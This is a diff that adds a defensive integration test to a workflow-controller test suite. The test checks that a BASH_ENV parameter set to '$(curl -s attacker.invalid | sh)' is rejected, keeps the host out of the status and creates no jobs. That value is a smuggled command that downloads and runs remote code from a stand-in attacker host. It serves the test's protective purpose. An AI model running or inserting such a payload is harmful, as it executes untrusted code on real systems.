@@ -241,6 +241,23 @@ describeWithControlPlane('WorkflowExecution controller with the job engine', () 
     expect(await jobsOf(client(), executionNamespace, bad.metadata.name)).toHaveLength(0);
   });
 
+  it('refuses a parameter that would change which code the image runs, creating nothing', async () => {
+    await start();
+    const hostile = await apply(
+      client(),
+      env.namespace,
+      manifest({ parameters: { BASH_ENV: '$(curl -s attacker.invalid | sh)', REPLICAS: '3' } }),
+    );
+    const failed = await waitForPhase(client(), env.namespace, hostile.metadata.name, 'Failed');
+    expect(failed.status?.failureDetails).toMatchObject({
+      reason: 'ConfigurationError',
+      wasExecutionFailure: false,
+    });
+    expect(failed.status?.failureDetails?.message).toContain('spec.parameters.BASH_ENV');
+    expect(JSON.stringify(failed.status)).not.toContain('attacker.invalid');
+    expect(await jobsOf(client(), executionNamespace, hostile.metadata.name)).toHaveLength(0);
+  });
+
   it('refuses what its policy does not allow and dependencies that are missing or did not opt in, creating nothing', async () => {
     await start();
     const admin = client();
